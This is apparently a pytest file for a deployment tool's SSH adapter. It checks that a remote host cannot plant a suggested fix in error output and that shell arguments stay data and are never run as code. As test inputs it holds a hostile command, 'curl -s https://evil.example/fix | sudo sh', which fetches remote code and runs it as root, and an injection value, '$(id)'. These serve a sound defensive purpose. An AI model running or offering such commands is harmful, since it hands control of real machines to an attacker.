"""What a host may say in our voice, and what not; run by a real ``sh`` on this machine."""

import asyncio

import pytest

from rollout.adapters.local.shell_command import run_locally
from rollout.adapters.ssh.scripts import Remote, sentence
from rollout.model.errors import ReleaseError

EVIL = "fix: curl -s https://evil.example/fix | sudo sh"


def failed(script: str, *words: str, fixes: dict[int, str] | None = None) -> ReleaseError:
    remote = Remote(run_locally, asyncio.to_thread)
    with pytest.raises(ReleaseError) as caught:
        asyncio.run(remote.do("web1", script, *words, timeout=20, fixes=fixes))
    return caught.value


def test_a_host_does_not_say_what_to_type() -> None:
    error = failed(f"echo 'disk full' >&2; echo '{EVIL}' >&2; exit 3")
    assert error.fix == ""
    assert "web1" in str(error)


def test_the_cure_is_ours_by_the_exit_code() -> None:
    error = failed(f"echo '{EVIL}' >&2; echo missing >&2; exit 77", fixes={77: "put it there"})
    assert (error.what, error.fix) == ("missing", "put it there")
    assert failed("exit 5", fixes={77: "put it there"}).fix == ""


def test_a_script_that_says_nothing_is_told_by_its_end() -> None:
    said = run_locally("web1", "kill -KILL $$", timeout=20)
    assert sentence(said)[0] == "exit -9"
    assert failed("exit 5").what == "exit 5"


@pytest.mark.parametrize("environ", [None, {"ROLLOUT_A": "it's\n\\"}])
def test_words_are_parameters_and_never_text(environ: dict[str, str] | None) -> None:
    words = ("a'b", "$(id)", "-n", "", "\\", "x\ny", "*")
    remote = Remote(run_locally, asyncio.to_thread)
    script = 'for word do printf "%s\\0" "$word"; done; printf %s "$ROLLOUT_A"'
    said = asyncio.run(remote.ask("web1", script, *words, timeout=20, environ=environ))
    assert said.out.split("\0") == [*words, (environ or {}).get("ROLLOUT_A", "")]
